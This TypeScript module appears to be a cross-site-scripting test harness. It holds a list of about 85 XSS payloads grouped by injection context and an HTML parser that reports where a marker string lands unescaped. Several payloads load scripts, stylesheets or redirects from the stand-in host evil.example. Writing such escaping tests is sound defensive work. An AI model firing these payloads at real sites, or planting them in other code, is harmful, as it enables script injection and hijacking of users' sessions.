import { Parser } from 'htmlparser2';

/** A word of every payload, by which it is found in a page. */
export const WORD = 'xss7f3c';

const CALL = `alert('${WORD}')`;

/** Texts that run a script where a page shows them without escaping them, by the context that they break out of. At most 100 characters. */
export const PAYLOADS: readonly string[] = [
  // Elements.
  `<script>${CALL}</script>`,
  `<ScRiPt>${CALL}</sCrIpT>`,
  `<script src=//evil.example/${WORD}></script>`,
  `<script/x>${CALL}</script/x>`,
  `<script\n>${CALL}</script\n>`,
  `<<script>${CALL}//<</script>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<img src=x onerror=${CALL}>`,
  `<img/src/onerror=${CALL}>`,
  `<img src="x\`><script>${CALL}</script>"\`>`,
  `<svg onload=${CALL}>`,
  `<svg/onload=${CALL}//`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x>`,
  `<svg><a xlink:href=javascript:${CALL}>x`,
  `<math><mi xlink:href=javascript:${CALL}>x`,
  `<iframe src=javascript:${CALL}>`,
  `<iframe srcdoc="<script>${CALL}</script>">`,
  `<object data=javascript:${CALL}>`,
  `<embed src=//evil.example/${WORD}>`,
  `<body onload=${CALL}>`,
  `<details open ontoggle=${CALL}>`,
  `<input autofocus onfocus=${CALL}>`,
  `<video><source onerror=${CALL}>`,
  `<base href=//evil.example/${WORD}/>`,
  `<meta http-equiv=refresh content=0;url=//evil.example/${WORD}>`,
  `<link rel=stylesheet href=//evil.example/${WORD}>`,
  `<style>@import'//evil.example/${WORD}'</style>`,
  `<form action=//evil.example/${WORD}><button>x`,
  `<button formaction=javascript:${CALL}>x`,
  `<isindex action=javascript:${CALL} type=image>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<template><script>${CALL}</script></template>`,
  `<!--><script>${CALL}</script>-->`,
  `<![CDATA[<script>${CALL}</script>]]>`,
  `<?xml ${WORD}?><script>${CALL}</script>`,
  `<%00script>${CALL}</script>`,
  `<x onclick=${CALL}>x`,
  `<a href="javascript:${CALL}">x</a>`,
  `<plaintext>${WORD}`,
  // Attributes.
  `" onfocus=${CALL} autofocus="`,
  `' onfocus=${CALL} autofocus='`,
  `x onfocus=${CALL} autofocus`,
  `"><script>${CALL}</script>`,
  `'><script>${CALL}</script>`,
  `\`><script>${CALL}</script>`,
  `"/><img src=x onerror=${CALL}>`,
  `"\tonmouseover=${CALL}\tx="`,
  `" style="background:url(//evil.example/${WORD})`,
  `&quot; onfocus=${CALL} x=&quot;`,
  `&#34;&#62;&#60;script&#62;${CALL}`,
  `&lt;script&gt;${CALL}&lt;/script&gt;`,
  // Ends of elements of text.
  `</title><script>${CALL}</script>`,
  `</textarea><script>${CALL}</script>`,
  `</style><script>${CALL}</script>`,
  `</script><script>${CALL}</script>`,
  `</ScRiPt ><img src=x onerror=${CALL}>`,
  `<!--<script>${WORD}`,
  `--><script>${CALL}</script>`,
  `--!><script>${CALL}</script>`,
  // Scripts and JSON.
  `';${CALL}//`,
  `";${CALL}//`,
  `\\";${CALL}//`,
  `\\u003cscript\\u003e${CALL}`,
  `\u2028${CALL}\u2029`,
  `"}</script><script>${CALL}</script>`,
  `\${${CALL}}`,
  `{{constructor.constructor("${CALL}")()}}`,
  `{"${WORD}":{"__html":"<img src=x onerror=alert(1)>"}}`,
  // Addresses.
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  `java\tscript:${CALL}`,
  `\u0001javascript:${CALL}`,
  `javascript://%0a${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `vbscript:${WORD}`,
  `//evil.example/${WORD}`,
  // Other encodings of the same letters.
  `+ADw-script+AD4-${CALL}+ADw-/script+AD4-`,
  `%3Cscript%3E${CALL}%3C/script%3E`,
  `%253Cscript%253E${CALL}`,
  `\uff1cscript\uff1e${CALL}\uff1c/script\uff1e`,
  `\u02bascript\u02b9${WORD}`,
  `\u202e<script>${CALL}</script>`,
  `<\u00adscript>${CALL}</script>`,
  `<s\u200bcript>${CALL}</script>`,
  `<\u017fcript>${CALL}</\u017fcript>`,
];

interface Shape {
  /** Each element of the page with the names of its attributes. */
  readonly elements: ReadonlySet<string>;
  readonly faults: readonly string[];
  /** True if a text or an attribute holds the word of the payloads. */
  readonly isShown: boolean;
}

const ADDRESSES = new Set(['href', 'src', 'action', 'formaction', 'data', 'poster', 'xlink:href', 'srcdoc', 'ping']);

/** Reads a page as a browser does: its elements, and where the word of the payloads could do harm. */
export function shapeOf(html: string, origin: string): Shape {
  const elements = new Set<string>();
  const faults: string[] = [];
  let isShown = false;
  let script: Record<string, string> | undefined;
  let text = '';
  const parser = new Parser({
    onopentag(name, attributes) {
      elements.add([name, ...Object.keys(attributes).sort()].join(' '));
      if (name === 'script' || name === 'style') [script, text] = [attributes, ''];
      for (const [key, value] of Object.entries(attributes)) {
        if (key.startsWith('on') || key.includes(WORD)) faults.push(`the attribute ${key} of ${name}`);
        if (!value.includes(WORD)) continue;
        isShown = true;
        const leadsAway = ADDRESSES.has(key) && new URL(value, `${origin}/x`).origin !== origin;
        if (leadsAway || key === 'style' || key === 'srcdoc') faults.push(`${key}="${value}" of ${name}`);
      }
    },
    ontext(part) {
      if (part.includes(WORD)) isShown = true;
      if (script) text += part;
    },
    onclosetag(name) {
      if (name !== 'script' && name !== 'style') return;
      if (text.includes(WORD) && !isJson(text, script?.type)) faults.push(`the text of ${name}: ${text.slice(0, 200)}`);
      script = undefined;
    },
    oncomment(comment) {
      if (comment.includes(WORD)) faults.push(`a comment: ${comment}`);
    },
  });
  parser.end(html);
  return { elements, faults, isShown };
}

function isJson(text: string, type = ''): boolean {
  if (!type.endsWith('json')) return false;
  try {
    JSON.parse(text);
    return true;
  } catch {
    return false;
  }
}
